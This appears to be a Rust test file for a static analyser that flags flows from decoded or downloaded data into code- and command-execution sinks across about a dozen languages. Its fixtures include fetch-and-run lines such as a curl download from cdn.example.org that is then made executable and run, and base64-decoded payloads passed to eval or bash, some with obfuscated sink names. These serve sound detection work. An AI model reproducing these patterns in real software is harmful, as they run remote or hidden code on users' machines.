//! What reaches the sinks of small files in each language.

#![allow(clippy::unwrap_used)] // test helpers are not marked as tests

use crate::{Language, Vocabulary, analyse};

/// The flows of a file: the labels and the sink of each, sorted.
fn flows(language: Language, text: &str) -> Vec<String> {
    let vocabulary = Vocabulary::built_in().unwrap();
    let events = analyse(text.as_bytes(), language, &vocabulary).events;
    let mut all: Vec<String> = events
        .iter()
        .filter_map(|event| {
            let names = event.sources.iter().filter(|(label, _)| *label != 0);
            let mut names: Vec<&str> = names.map(|(label, _)| vocabulary.label_name(*label)).collect();
            names.sort_unstable();
            let sink = vocabulary.sink_name(event.sink?);
            (!names.is_empty()).then(|| format!("{} > {sink}", names.join("+")))
        })
        .collect();
    all.sort();
    all.dedup();
    all
}

#[test]
fn decoded_text_is_followed_to_where_it_runs() {
    for (language, text) in [
        (Language::JavaScript, "const k = 'base64';\nconst t = Buffer.from('eA==', k)\n  .toString();\neval(t);"),
        (Language::Python, "def f(t):\n    return base64.b64decode(t).decode()\n\ndef g():\n    exec(f('eA=='))\n"),
        (Language::Python, "exec(\n    ''.join(\n        map(chr, [112, 49])\n    )\n)\n"),
        (Language::Ruby, "text = Base64.decode64('eA==')\neval text\n"),
        (Language::Ruby, "def open_text(t)\n  Base64.decode64(t)\nend\neval(open_text('eA=='))\n"),
        (Language::Php, "<p><?php $a = base64_decode('eA=='); $b = $a . ';'; eval($b);"),
        (Language::Perl, "my $t = MIME::Base64::decode_base64('eA==');\neval($t);"),
        (Language::Lua, "local t = base64.decode('eA==')\nloadstring(t)()\n"),
    ] {
        assert_eq!(flows(language, text), ["decoded > run-code"], "{text}");
    }
    for (language, text) in [
        (
            Language::Go,
            "import \"os/exec\"\nfunc f() {\n\tr, _ := base64.StdEncoding.DecodeString(t)\n\texec.Command(\"sh\", \"-c\", string(r)).Run()\n}",
        ),
        (
            Language::Rust,
            "use std::process::Command as C;\nfn f() {\n    let r = base64::decode(t).unwrap();\n    C::new(\"sh\").arg(\"-c\").arg(r);\n}",
        ),
        (
            Language::CSharp,
            "class A { void F() { var l = Encoding.UTF8.GetString(Convert.FromBase64String(t)); Process.Start(\"sh\", \"-c \" + l); } }",
        ),
        (
            Language::Java,
            "class A { void f(String t) { byte[] r = Base64.getDecoder().decode(t); Runtime.getRuntime().exec(new String(r)); } }",
        ),
        (
            Language::Kotlin,
            "fun f(t: String) {\n    val r = String(Base64.getDecoder().decode(t))\n    Runtime.getRuntime().exec(r)\n}",
        ),
        (Language::Shell, "X=$(echo eA== | base64 -d)\nbash -c \"$X\"\n"),
    ] {
        assert_eq!(flows(language, text), ["decoded > run-command"], "{text}");
    }
}

#[test]
fn a_fetched_file_is_followed_through_the_disk() {
    for (language, text) in [
        (
            Language::Python,
            "import requests, subprocess\np = '/tmp/a'\nwith open(p, 'wb') as f:\n    f.write(requests.get(u).content)\nsubprocess.Popen([p])\n",
        ),
        (
            Language::JavaScript,
            "const { spawn } = require('child_process');\nrequire('https').get(u, (r) => {\n  const out = fs.createWriteStream(p);\n  r.pipe(out);\n  out.on('finish', () => spawn(p, []));\n});",
        ),
        (Language::Shell, "curl -sL https://cdn.example.org/a -o /tmp/a\nchmod +x /tmp/a\n/tmp/a\n"),
        (Language::Ruby, "system('curl -s https://cdn.example.org/x | sh')\n"),
    ] {
        assert!(flows(language, text).contains(&"fetched > run-command".to_owned()), "{text}");
    }
}

#[test]
fn fixed_programs_and_unrelated_values_have_no_flow() {
    for (language, text) in [
        (
            Language::JavaScript,
            "const m = /x/.exec(atob(s));\nconst { spawn } = require('child_process');\nspawn('ls');",
        ),
        (Language::Python, "data = base64.b64decode(t)\nsubprocess.run(['convert', '-'], input=data)\n"),
        (Language::Python, "v = requests.get(u).text\nsubprocess.run(['git', 'tag', v])\n"),
        (Language::Go, "r, _ := base64.StdEncoding.DecodeString(t)\nfmt.Println(r)\n"),
        (Language::Python, "token = os.environ['TOKEN']\nrequests.post(u, headers={'a': token})\n"),
        (Language::Shell, "VERSION=$(curl -s https://cdn.example.org/v)\necho \"$VERSION\"\n"),
    ] {
        let found = flows(language, text);
        assert!(
            found.iter().all(|flow| !flow.contains("run-") && !flow.starts_with("environment")),
            "{text}: {found:?}"
        );
    }
}

#[test]
fn names_are_resolved_through_aliases_and_text() {
    for (language, text, flow) in [
        (
            Language::Python,
            "from os import system as s\nfrom urllib.request import urlopen as u\ns(u(a).read())",
            "fetched > run-command",
        ),
        (Language::Python, "import os\nos.__dict__['sys' + 'tem'](a)", "named-by-text > run-command"),
        (Language::Python, "r = getattr(builtins, 'exec')\nr(a)", "named-by-text > run-code"),
        (Language::JavaScript, "const { exec: go } = require('child_process');\ngo(atob(a));", "decoded > run-command"),
        (
            Language::JavaScript,
            "import * as cp from 'node:child_process';\ncp['ex' + 'ec'](a);",
            "named-by-text > run-command",
        ),
    ] {
        assert!(flows(language, text).contains(&flow.to_owned()), "{text}: {:?}", flows(language, text));
    }
}

#[test]
fn hostile_source_takes_bounded_time_and_does_not_panic() {
    let deep = "(".repeat(100_000);
    let chain = format!("a{}", ".b()".repeat(50_000));
    let sum = format!("eval(atob('eA=='){})", " + a".repeat(50_000));
    let aliases: String = (0..20_000).map(|i| format!("const a{} = a{i};\n", i + 1)).collect();
    let calls: String = (0..200).map(|i| format!("function f{i}(x) {{ f{}(x); f{}(x); }}\n", i + 1, i + 2)).collect();
    let nested = "`${".repeat(5_000);
    // Shell functions in functions, a function that calls itself, and commands in commands.
    let functions = format!("{}{}", "f() {\n".repeat(5_000), "}\n".repeat(5_000));
    let itself = format!("f() {{ {}; }}\nf\n", "f;".repeat(200));
    let found = "find / -exec ".repeat(5_000);
    // Lists that double, and long lists that are copied.
    let doubled = format!("x = [1, 2]\n{}", "x += x\nx.extend(x)\n".repeat(2_000));
    let arrays = format!("x=(a b)\n{}", "x+=(\"${x[@]}\")\n".repeat(2_000));
    let copied = format!("x = [{}]\n{}", "1, ".repeat(50_000), "f(x)\n".repeat(20_000));
    let quotes = ["\\".repeat(1000), "'".repeat(1001), "<<A".repeat(500)];
    let new = [functions, itself, found, doubled, arrays, copied];
    for text in [deep, chain, sum, aliases, calls, nested].into_iter().chain(quotes).chain(new) {
        for language in [
            Language::JavaScript,
            Language::Python,
            Language::Ruby,
            Language::Php,
            Language::Perl,
            Language::Shell,
            Language::PowerShell,
            Language::Rust,
        ] {
            let vocabulary = Vocabulary::built_in().unwrap();
            let analysis = analyse(text.as_bytes(), language, &vocabulary);
            assert!(analysis.events.len() < 10_000, "{language:?}");
        }
    }
}
